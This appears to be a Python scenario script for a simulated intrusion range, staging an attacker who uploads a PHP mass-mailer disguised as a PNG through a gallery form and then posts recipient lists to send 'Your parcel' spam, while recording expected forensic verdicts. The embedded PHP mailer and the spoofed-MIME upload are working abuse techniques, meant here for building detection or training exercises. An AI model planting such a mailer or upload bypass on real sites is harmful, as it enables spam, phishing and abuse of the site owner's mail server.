"""A script that mails: uploaded through the site's own form for pictures, then fed with lists of recipients."""

import hashlib

from scenarios import mailing, normal
from stage import mail, web
from stage.clock import now
from stage.network import ATTACKERS

LOG_FORMAT = "rfc3339"
ROLES = ("mail", "gallery")
DAYS = 2  # before the day of the play
INTRUDER = ATTACKERS[4]
AGENT = "python-requests/2.31.0"
NAME = "summer.php"
PATH = f"/var/www/html/uploads/gallery/{NAME}"
URL = f"/uploads/gallery/{NAME}"
CALLS, EACH = 12, 60
# Mails what it is told to whom it is told, over the range's own relay only.
SCRIPT = """<?php
foreach (explode("\\n", (string) ($_POST['list'] ?? '')) as $to) {
    if (trim($to) !== '') {
        mail(trim($to), $_POST['subject'], $_POST['text'], 'From: ' . $_POST['from']);
    }
}
echo 'sent';
"""


def play(host, network, facts) -> None:
    facts.notes.update(verdict_expected="mail_abuse", accused=[], attacker_addresses=[INTRUDER, ATTACKERS[2]],
                       verdict={"intrusion": "confirmed", "mail_abuse": "confirmed", "ways": ["abused_script"]}, entry_vector="upload")
    with mail.Sink(host.work) as sink:
        for days in range(DAYS, 0, -1):
            with host.days_ago(days):
                _readers_order(facts)
                mailing.usual_day(host, facts)
                mailing.queue_is_empty(host)
        normal.round_of_work(host, facts, typos=1)
        _readers_order(facts)
        mailing.usual_day(host, facts)
        _upload(host, facts)
        _send(facts)
        mailing.queue_is_empty(host)
        normal.round_of_work(host, facts)
    facts.notes["mail"] = {"sender": PATH, "recipients": CALLS * EACH, "refused": sink.refused,
                           "delivered": sink.taken.get("www-data@example.jp", 0)}


def _readers_order(facts) -> None:
    """The site mails, too: what its form for orders says, to its owner."""
    for n, source in enumerate(normal.READERS[:3]):
        web.request(source, "/gallery/order.php", form=f"name=reader{n}&what=beans")
        facts.legit("", source)
    if web.upload(normal.READERS[0], "/gallery/send.php", "picture", "garden.png", "image/png", b"\x89PNG\r\n\x1a\n" + bytes(32)) != 200:
        raise RuntimeError("a reader could not send a picture")


def _upload(host, facts) -> None:
    facts.step("upload", path=PATH, address=INTRUDER, url="/gallery/send.php")
    facts.step("web_shell", path=PATH)
    status = web.upload(INTRUDER, "/gallery/send.php", "picture", NAME, "image/png", SCRIPT.encode(), agent=AGENT)
    if status != 200 or not (host.root / PATH.lstrip("/")).exists():
        raise RuntimeError(f"the form answered {status} and the script is not there")
    facts.notes["web_shell"] = {"path": PATH, "sha256": hashlib.sha256(SCRIPT.encode()).hexdigest(), "url": URL, "added_at": now(), "posts": 0}


def _send(facts) -> None:
    facts.step("called", path=PATH, address=INTRUDER)
    facts.step("sent", path=PATH)
    for call in range(CALLS):
        numbers = range(call * EACH, call * EACH + EACH)
        recipients = "%0A".join(f"{'gone' if n % 12 == 0 else 'user'}{n}%40target{n % 40}.example" for n in numbers)
        form = f"list={recipients}&subject=Your+parcel&text=It+waits&from=parcel%40post-service.example"
        if web.request(INTRUDER, URL, form=form, agent=AGENT) != 200:
            raise RuntimeError("the script did not answer")
        facts.notes["web_shell"]["posts"] += 1
